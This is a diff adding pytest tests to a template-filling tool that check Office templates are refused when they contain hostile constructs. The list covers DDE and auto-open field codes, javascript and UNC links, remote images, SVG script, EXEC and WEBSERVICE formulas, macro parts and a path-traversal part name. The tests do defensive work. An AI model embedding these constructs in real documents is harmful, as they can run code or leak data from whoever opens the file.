@@ -19,6 +19,7 @@ from openpyxl.cell.text import InlineFont
 from openpyxl.styles import Border, Font, Side
 from openpyxl.worksheet.datavalidation import DataValidation
 
+from bounds import bounded
 from dangxing import cli
 from dangxing.errors import FileProblem
 from dangxing.ledger import open_ledger
@@ -266,6 +267,83 @@ _FIELD = b"""<w:p xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>
 </w:p>"""
 
 
+_HOSTILE = {
+    **{
+        f"the field {field.split()[0]}": (_FIELD % field.encode(), "field")
+        for field in (
+            "QUOTE 68 68 69", 'IF 1=1 "a" "b"', "MACROBUTTON AutoOpen x",
+            'LINK Excel.Sheet "c:\\\\x.xls"', 'DATABASE \\d "x"',
+            'FILLIN "x"', 'ASK b "x"', "DOCVARIABLE x", '\tincludepicture \t"http://e/x"', "GOTOBUTTON x", "PRINT x",
+        )
+    },
+    "a link to a file": (_FIELD % b'HYPERLINK "file:///c:/x"', "outside"),
+    "a link that runs": (_FIELD % b'HYPERLINK "javascript:alert(1)"', "outside"),
+    "a link behind switches": (_FIELD % b'HYPERLINK \\l x \\t "_blank" "\\\\\\\\host\\\\share"', "outside"),
+    "a field within an alternative": (b"<a><Choice>" + _FIELD % b"DDE a b" + b"</Choice></a>", "field"),
+    "a picture from outside": (b'<v:shape xmlns:v="v"><v:imagedata src="http://e/x.png"/></v:shape>', "outside"),
+    "a linked picture of a shape": (b'<v:imagedata xmlns:v="v" xmlns:o="o" o:href="http://e/y"/>', "outside"),
+    "a filling from another machine": (b'<v:fill xmlns:v="v" src="\\\\host\\x.png"/>', "outside"),
+    "a picture in a picture": (b'<svg xmlns="s"><image href="http://e/x"/></svg>', "outside"),
+    "a script in a picture": (b'<svg xmlns="s"><script>alert(1)</script></svg>', "fetches"),
+    "a click that runs a macro": (b'<a:hlinkClick xmlns:a="a" action="ppaction://macro?name=x"/>', "fetches"),
+    "a name that runs by itself": (b'<a><definedName name="_xlnm.Auto_Open">1</definedName></a>', "field"),
+    "a name that calls": (b'<a><definedName name="n">EXEC("calc")</definedName></a>', "field"),
+    "a list that asks the net": (b'<a><formula1>WEBSERVICE("http://e")</formula1></a>', "field"),
+    "a look that asks the net": (b'<a><formula>_xlfn.IMAGE ("http://e")=1</formula></a>', "field"),
+    **{
+        f"the formula {formula}": (f"<a><f>{formula}</f></a>".encode(), "field")
+        for formula in (
+            "HYPERLINK(&quot;http://e?&quot;&amp;A1,1)", "_xlfn._xlws.PY(0,0)", "'http://e/[x.xlsx]S'!A1", "[1]S!A1",
+            "_xldudf_X.CALL()", "RTD(1,2)", "STOCKHISTORY(1)", "_xlfn.WEBSERVICE (1)",
+        )
+    },
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", _HOSTILE)
+@pytest.mark.parametrize("ending", ["xlsx", "docx"])
+def test_what_fetches_sends_or_runs_is_refused(tmp_path: Path, ending: str, name: str) -> None:
+    """In whatever part of whichever kind of form it stands."""
+    template = tmp_path / f"t.{ending}"
+    if ending == "xlsx":
+        xlsx(template, {"A1": "{{id}}"})
+    else:
+        document(template, "{{id}}")
+    content, code = _HOSTILE[name]
+    repacked(template, {"customXml/item1.xml": content})
+    assert problem(template).code == f"forms.template-{code}"
+
+
+@pytest.mark.parametrize(
+    ("part", "type_", "code"),
+    [
+        ("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "macros"),
+        ("word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", "macros"),
+        ("customUI/customUI.xml", "application/xml", "macros"),
+        ("word/stuff.bin", "application/vnd.ms-office.vbaProject", "macros"),
+        ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", "macros"),
+        (
+            "xl/connections.xml",
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
+            "fetches",
+        ),
+        ("xl/q1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml", "fetches"),
+        ("xl/e1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", "fetches"),
+        ("xl/xmlMaps.xml", "application/xml", "fetches"),
+        ("word/../../evil.xml", "application/xml", "part"),
+    ],
+)
+def test_parts_that_fetch_or_run_are_refused(tmp_path: Path, part: str, type_: str, code: str) -> None:
+    """By their type or name, whatever leads to them."""
+    template = tmp_path / "t.docx"
+    document(template, "{{id}}")
+    with zipfile.ZipFile(template) as archive:
+        types = archive.read("[Content_Types].xml")
+    entry = f'<Override PartName="/{part}" ContentType="{type_}"/></Types>'.encode()
+    repacked(template, {"[Content_Types].xml": types.replace(b"</Types>", entry), part: b"<a/>"})
+    assert problem(template).code == f"forms.template-{code}"
+
+
 @pytest.mark.parametrize(
     ("part", "content", "code"),
     [
@@ -311,6 +389,27 @@ def test_a_sheet_that_reaches_too_far_takes_no_memory(tmp_path: Path) -> None:
     sheet.merged_cells.add("A2:XFD1048576")
     sheet.parent.save(template)
     assert problem(template).code == "forms.template-damaged"
+
+
+def test_a_form_of_many_blanks_is_filled_in_time(ledger: Path, tmp_path: Path) -> None:
+    """Cells that only carry a border are gone through once a block, not once an entry; too many are refused."""
+    template = tmp_path / "t.xlsx"
+    sheet = xlsx(
+        template, {"A1": "{{id}}", "A3": "{{lines.clause}}", "A5": "{{losses.clause}}", "A7": "{{gains.says}}"}
+    )
+    line = Border(left=Side(style="thin"))
+    for row in range(1, 401):
+        for column in range(1, 101):
+            sheet.cell(row, column).border = line
+    sheet.parent.save(template)
+    with bounded("forty thousand cells"):
+        [made] = filled(ledger, template, "0103")
+    assert sheet_of(made)["A1"].value == "0103"
+    for column in range(101, 130):
+        for row in range(1, 401):
+            sheet.cell(row, column).border = line
+    sheet.parent.save(template)
+    assert problem(template).code == "forms.template-cells"
 
 
 def test_what_is_no_form_is_refused(tmp_path: Path) -> None:
